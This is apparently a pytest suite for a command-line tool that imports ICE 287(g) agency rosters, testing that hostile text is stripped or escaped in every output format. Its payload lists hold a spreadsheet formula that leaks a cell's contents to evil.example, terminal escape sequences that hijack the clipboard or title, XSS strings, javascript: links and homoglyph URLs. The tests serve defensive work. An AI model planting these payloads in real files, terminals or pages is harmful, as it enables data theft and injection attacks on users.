"""Hostile text: terminal escapes, formulas, HTML, bidi and zero-width characters, in every field and format."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from pathlib import Path

import pytest

from agencyref import text
from agencyref.roster.file import encode_roster
from agencyref.roster.ice287g import import_sheets
from agencyref.roster.model import Agreement, Roster

from .conftest import MINI, Runner

openpyxl = pytest.importorskip("openpyxl")

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "\x1b]52;c;ZXZpbCBjbGlwYm9hcmQ=\x07Clipboard PD",
    "\x1b]0;pwned title\x07Title PD",
    "\x1b[2J\x1b[HCleared PD",
    "\x1b]8;;http://evil.example\x1b\\Linked PD\x1b]8;;\x1b\\",
    "\u202eDP desrever",
    "Zero\u200bWidth\u2060 PD\ufeff",
    "<script>alert(1)</script> PD",
    "<img src=x onerror=alert(1)> & co",
    "[click](javascript:alert(1)) PD",
    "+1 PD",
    "-2 PD",
    "@SUM(1+1) PD",
    "\t=1+1 PD",
    "\r=1+1 PD",
    "Line\nbreak\rPD\x85\u2028end",
    "\x9b31mC1 CSI PD",
]
FORMATS = ["table", "json", "yaml", "csv", "markdown"]
SGR_OR_LINK = re.compile(r"\x1b\[[0-9;]*m|\x1b\]8;[^\x1b\x07]*\x1b\\")  # what Rich itself writes, with colour


def bad_chars(out: str, *, ours: bool = False) -> list[str]:
    """Control, format or surrogate characters in output, other than line breaks (and, with colour, our own codes)."""
    if ours:
        out = SGR_OR_LINK.sub("", out)
    return sorted({c for c in out if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Cs")})


def assert_safe(out: str, fmt: str) -> None:
    assert not bad_chars(out), (fmt, bad_chars(out))
    if fmt == "csv":
        for row in csv.reader(io.StringIO(out)):
            for cell in row:
                assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r")), cell
    if fmt == "markdown":
        body = re.sub(r"<https?://[^\s<>]+>", "", out)  # our footnote autolinks
        body = "\n".join(line[2:] if line.startswith("> ") else line for line in body.splitlines())
        assert "<" not in body and ">" not in body, body
        assert not re.search(r"(?<!\\)\]\(", out), "a link made of data"
    if fmt == "json":
        json.loads(out)


# ---- text.py --------------------------------------------------------------------------------------------


def test_unsafe_class_is_exactly_the_control_format_and_surrogate_categories() -> None:
    ours = {chr(c) for c in range(0x110000) if text._unsafe().match(chr(c))}
    theirs = {chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) in ("Cc", "Cf", "Cs")}
    if unicodedata.unidata_version == "14.0.0":
        assert ours == theirs
    else:  # a newer Unicode may add format characters: ours must still all be unsafe
        assert ours <= theirs | {chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) == "Cn"}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_strip_unsafe_leaves_nothing_a_terminal_acts_on(payload: str) -> None:
    for multiline in (False, True):
        cleaned = text.strip_unsafe(payload, multiline=multiline)
        assert not bad_chars(cleaned)
        assert ("\n" in cleaned) <= multiline
        assert text.is_clean(cleaned, multiline=multiline)
    assert text.printable(payload).isprintable()


def test_zero_width_variants_are_one_name() -> None:
    names = [
        "Harris County",
        "Harris\u200b County",
        "Harris County\u2060",
        "\ufeffHarris County",
        "Harris\u00ad County",
    ]
    assert {" ".join(text.strip_unsafe(n).split()) for n in names} == {"Harris County"}


@pytest.mark.parametrize(
    "url",
    ["https://www.ice.gov/doclib/287gMOA/a.pdf", "http://example.org/a?b=1&c=2#x", "https://example.org:8080/x;y=z"],
)
def test_safe_url_accepts_plain_web_addresses(url: str) -> None:
    assert text.safe_url(url) == url


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "data:text/html,<script>",
        "ftp://example.org/x",
        "https:///nohost",
        "https://example.org/a b",
        'https://example.org/"onmouseover=x',
        "https://example.org/a)[x](javascript:alert(1)",
        "https://example.org/<x>",
        "https://example.org/\x1b]8;;http://evil\x1b\\",
        "https://exa\u200bmple.org/",
        "https://ex\u0430mple.org/",  # Cyrillic a: shown as text, never linked
        "https://example.org:99999999/",
        " https://example.org/",
        "https://[::1]:8080/x",  # brackets are markdown syntax
        "",
    ],
)
def test_safe_url_refuses_everything_else(url: str) -> None:
    assert text.safe_url(url) is None


# ---- the importer: cleaned once, with a warning naming the row ---------------------------------------------

HEADER = ["STATE", "LAW ENFORCEMENT AGENCY", "TYPE", "COUNTY", "SUPPORT TYPE", "SIGNED", "MOA"]


def csv_sheet(path: Path, rows: list[list[str]]) -> Path:
    buf = io.StringIO()
    csv.writer(buf).writerows([HEADER, *rows])
    path.write_bytes(buf.getvalue().encode("utf-8"))
    return path


def test_csv_payloads_are_cleaned_and_warned_about_by_row(tmp_path: Path) -> None:
    rows = [["TEXAS", p, "County", "Harris County", "TFM", "3/1/2025", ""] for p in PAYLOADS]
    result = import_sheets([csv_sheet(tmp_path / "participatingAgencies07182025pm.csv", rows)])
    names = {a.row: a.agency for a in result.roster.agreements}
    for row, name in names.items():
        assert not bad_chars(name) and name == " ".join(name.split()), (row, name)
    assert names[7] == "DP desrever" and names[8] == "ZeroWidth PD"
    warned = {w.row for w in result.report.warnings if "AGENCY: removed" in w.message}
    # Every row whose name held more than stray whitespace is named in a warning.
    assert warned == {n for n, p in enumerate(PAYLOADS, start=2) if text._unsafe().search(p.strip("\t\r\n"))}
    for w in result.report.warnings:
        assert w.message.isprintable()


def test_zero_width_variants_become_one_agency(tmp_path: Path) -> None:
    variants = [
        "Harris County Sheriff's Office",
        "Harris\u200b County Sheriff's Office",
        "Harris County Sheriff's Office\ufeff",
    ]
    rows = [
        ["TEXAS", v, "County", "Harris County", m, "3/1/2025", ""]
        for v, m in zip(variants, ["TFM", "JEM", "WSO"], strict=True)
    ]
    result = import_sheets([csv_sheet(tmp_path / "participatingAgencies07182025pm.csv", rows)])
    assert {a.agency for a in result.roster.agreements} == {"Harris County Sheriff's Office"}
    assert result.report.distinct_agencies == 1
    assert {w.row for w in result.report.warnings} == {3, 4}


def test_xlsx_payload_cells_and_hostile_links(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(HEADER)
    links = [
        "javascript:alert(1)",
        "https://www.ice.gov/a.pdf)[x](javascript:alert(1)",
        'https://www.ice.gov/"><script>',
        "https://www.ice.gov/doclib/287gMOA/good.pdf",
    ]
    # XML 1.0 has no C0 controls (openpyxl refuses them): the rest of the payloads go in.
    legal = [p for p in PAYLOADS if not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", p)]
    for n, link in enumerate(links):
        ws.append(["TEXAS", f"{legal[n + 3]} {n}", "County", f"Harris{legal[n]}", "TFM", "3/1/2025", "link"])
        ws.cell(row=n + 2, column=7).hyperlink = link
    path = tmp_path / "participatingAgencies07182025pm.xlsx"
    wb.save(path)
    result = import_sheets([path])
    by_row = {a.row: a for a in result.roster.agreements}
    assert [by_row[r].moa_url for r in (2, 3, 4, 5)] == [None, None, None, links[3]]
    not_linked = {w.row for w in result.report.warnings if "is not a web address; not linked" in w.message}
    assert not_linked == {2, 3, 4}
    assert all(not bad_chars(a.agency + a.county) for a in by_row.values())


# ---- every output format, with a hostile roster file written by hand --------------------------------------


def hostile_roster(path: Path) -> Path:
    urls = ["javascript:alert(1)", "https://x.example/a)[y](javascript:z)", None]
    agreements = [
        Agreement(
            state="TX",
            agency=p,
            agency_type="county",
            county="Harris County",
            model="tfm",
            status="participating",
            signed="2025-03-01",
            moa_url=urls[n % 3],
            moa_status="link" if urls[n % 3] else "none",
            sheet="s.xlsx",
            row=n + 2,
        )
        for n, p in enumerate(PAYLOADS)
    ]
    roster = Roster(schema_version=1, as_of="2025-07-18", source_url="https://www.ice.gov/identify-and-arrest/287g",
                    source_files=["\x1b[2Jsheet.xlsx"], agreements=agreements)  # fmt: skip
    path.write_bytes(encode_roster(roster))
    return path


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("query", [["jurisdiction", "TX"], ["jurisdiction", "Harris County, TX"], ["program", "287g"]])
def test_hostile_roster_through_every_format(run: Runner, tmp_path: Path, fmt: str, query: list[str]) -> None:
    roster = hostile_roster(tmp_path / "roster.json")
    r = run("-q", "--data", str(MINI), "--roster", str(roster), *query, "--format", fmt)
    if r.code == 2 and fmt == "csv":
        return  # not a table: csv is a usage error here
    assert r.code == 0, r.err
    assert_safe(r.out, fmt)
    assert not bad_chars(r.err)


def test_hostile_roster_in_colour_at_a_terminal_width(run: Runner, tmp_path: Path) -> None:
    roster = hostile_roster(tmp_path / "roster.json")
    r = run("-q", "--data", str(MINI), "--roster", str(roster), "--color", "always", "jurisdiction", "TX",
            env={"COLUMNS": "100"})  # fmt: skip
    assert r.code == 0, r.err
    assert "\x1b[" in r.out  # colour is on
    assert not bad_chars(r.out, ours=True)
    assert "evil" not in "".join(SGR_OR_LINK.findall(r.out))  # no link to a hostile URL


def hostile_knowledge(path: Path) -> Path:
    raw = MINI.read_text(encoding="utf-8")
    # A value in every kind of text field a YAML author (or attacker) controls.
    payload = '"\\e]52;c;ZXZpbA==\\a<b>x{n}</b> \\u202e[y](javascript:z) =1+1\\u200b"'
    numbers = iter(range(3))
    raw, count = re.subn(r"(?m)^(\s+name:) .*$", lambda m: f"{m[1]} {payload.format(n=next(numbers))}", raw, count=3)
    assert count == 3
    path.write_text(raw, encoding="utf-8")
    return path


@pytest.mark.parametrize("fmt", FORMATS)
def test_hostile_knowledge_values_are_cleaned_on_load(run: Runner, tmp_path: Path, fmt: str) -> None:
    data = hostile_knowledge(tmp_path / "k.yaml")
    for query in (["agency"], ["compare", "ice", "police"]):
        r = run("-q", "--data", str(data), *query, "--format", fmt)
        if r.code == 2 and fmt == "csv":
            continue
        assert r.code == 0, r.err
        assert_safe(r.out, fmt)


def test_sanitised_knowledge_values_are_reported_to_who_asks() -> None:
    from agencyref.errors import Problem
    from agencyref.knowledge.yamlsafe import read_yaml

    found: list[Problem] = []
    value, _ = read_yaml(b'a: "x\\e[2Jy"\nb: |\n  two\n  lines\n', "f.yaml", found)
    assert value == {"a": "x[2Jy", "b": "two\nlines\n"}  # line breaks of a multi-line value kept
    assert [str(p) for p in found] == ["f.yaml:1: a: removed control characters"]


@pytest.mark.parametrize("fmt", ["markdown", "json"])
def test_export_escapes_hostile_text(run: Runner, tmp_path: Path, fmt: str) -> None:
    data = hostile_knowledge(tmp_path / "k.yaml")
    roster = hostile_roster(tmp_path / "roster.json")
    r = run("-q", "--data", str(data), "--roster", str(roster), "export", "--format", fmt)
    assert r.code == 0, r.err
    assert_safe(r.out, fmt)
